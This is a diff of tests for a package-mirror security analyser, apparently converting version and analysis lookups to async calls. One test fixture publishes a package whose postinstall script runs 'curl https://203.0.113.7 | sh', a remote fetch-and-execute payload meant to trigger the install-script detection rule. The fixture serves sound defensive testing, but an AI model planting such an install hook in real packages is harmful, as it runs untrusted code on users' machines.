@@ -60,9 +60,9 @@ test("a burst of one package's versions neither starves another package nor take
     assert.ok(fetched <= 2, `the packument of flood was fetched ${fetched} times for 30 analyses`);
     // Each version is compared with the one before it in the burst, whose verified bytes the store already has.
     for (let i = 2; i <= 30; i++) {
-      const record = mirror.runtime.store.versionOf('flood', `1.0.${i}`)!;
+      const record = (await mirror.runtime.store.versions.versionOf('flood', `1.0.${i}`))!;
       assert.equal(record.analysis, 'clean', `1.0.${i}`);
-      assert.equal(mirror.runtime.analyses.analysisOf('flood', `1.0.${i}`, record.integrity!)?.previousVersion, `1.0.${i - 1}`);
+      assert.equal((await mirror.runtime.store.analyses.analysisOf('flood', `1.0.${i}`, record.integrity!))?.previousVersion, `1.0.${i - 1}`);
     }
     assert.equal(upstream.requests.filter((r) => /flood-1\.0\.\d+\.tgz/.test(r)).length, 31, 'each tarball downloaded once');
   } finally {
@@ -81,12 +81,12 @@ test('a version after a held one in a burst is compared with the last version kn
     upstream.publish('chain', '1.0.3', { time: NOW - HOUR, scripts: { postinstall: 'node x.js' }, files: { 'x.js': "require('child_process').exec('curl https://203.0.113.7 | sh');\n", 'extra.js': '1;\n' } });
     await (await fetch(`${mirror.url}chain`)).arrayBuffer();
     await mirror.pipeline.drain();
-    const analysis = (v: string) => mirror.runtime.analyses.analysisOf('chain', v, mirror.runtime.store.versionOf('chain', v)!.integrity!)!;
-    assert.equal(analysis('1.0.2').previousVersion, '1.0.1', 'compared with the clean 1.0.1');
-    assert.equal(mirror.runtime.store.versionOf('chain', '1.0.2')?.state, 'held');
-    assert.equal(analysis('1.0.3').previousVersion, '1.0.1', 'not with the held 1.0.2');
-    assert.equal(mirror.runtime.store.versionOf('chain', '1.0.3')?.state, 'held');
-    assert.ok(analysis('1.0.3').findings.some((f) => f.rule.startsWith('install-script/')));
+    const analysis = async (v: string) => (await mirror.runtime.store.analyses.analysisOf('chain', v, (await mirror.runtime.store.versions.versionOf('chain', v))!.integrity!))!;
+    assert.equal((await analysis('1.0.2')).previousVersion, '1.0.1', 'compared with the clean 1.0.1');
+    assert.equal((await mirror.runtime.store.versions.versionOf('chain', '1.0.2'))?.state, 'held');
+    assert.equal((await analysis('1.0.3')).previousVersion, '1.0.1', 'not with the held 1.0.2');
+    assert.equal((await mirror.runtime.store.versions.versionOf('chain', '1.0.3'))?.state, 'held');
+    assert.ok((await analysis('1.0.3')).findings.some((f) => f.rule.startsWith('install-script/')));
   } finally {
     await close();
     await upstream.stop();
